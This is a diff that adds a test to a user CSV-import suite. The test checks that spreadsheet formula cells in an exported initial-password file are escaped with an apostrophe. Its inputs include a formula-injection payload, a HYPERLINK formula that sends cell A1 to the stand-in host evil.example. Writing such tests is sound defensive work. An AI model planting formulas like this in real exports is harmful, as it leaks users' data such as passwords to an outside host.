@@ -332,4 +332,34 @@ describe('accounts: creation, scope, passwords and CSV import', () => {
     expect(en.body.failureReason).toMatch(/^The import could not finish after several attempts/);
     expect(await userCount()).toBe(before);
   });
+
+  it('escapes cells that a spreadsheet would run as formulas in the initial-password file', async () => {
+    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '+1+2', '-3+4', '@SUM(A1)', '\t=1+1', '王小明'];
+    const start = await startImport(
+      [
+        '用户名,姓名,角色,年级',
+        ...names.map((n, i) => `fx.s00${i},"${n.replace(/"/g, '""')}",学生,3`),
+        '-fx.dash,赵六,学生,3',
+      ].join('\n'),
+    );
+    await t.jobs.drain();
+    const done = await t.http().get(`/api/user-imports/${start.body.id}`).set(auth(ruralAdmin));
+    expect(done.body).toMatchObject({ status: 'done', createdCount: 7 });
+    const text = (await fetch(done.body.credentialsUrl).then((r) => r.text())).replace(/^\uFEFF/, '');
+    const { parse } = await import('csv-parse/sync');
+    const rows = parse(text, { relax_quotes: false }) as string[][];
+    expect(rows[0]).toEqual(['username', 'displayName', 'initialPassword']);
+    expect(rows.slice(1).map((r) => r[1])).toEqual([
+      `'=HYPERLINK("http://evil.example/?x="&A1,"点我")`,
+      "'+1+2",
+      "'-3+4",
+      "'@SUM(A1)",
+      "'=1+1", // the import trims cells
+      '王小明',
+      '赵六',
+    ]);
+    expect(rows[7][0]).toBe("'-fx.dash");
+    // no cell of the file starts a formula
+    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+  });
 });
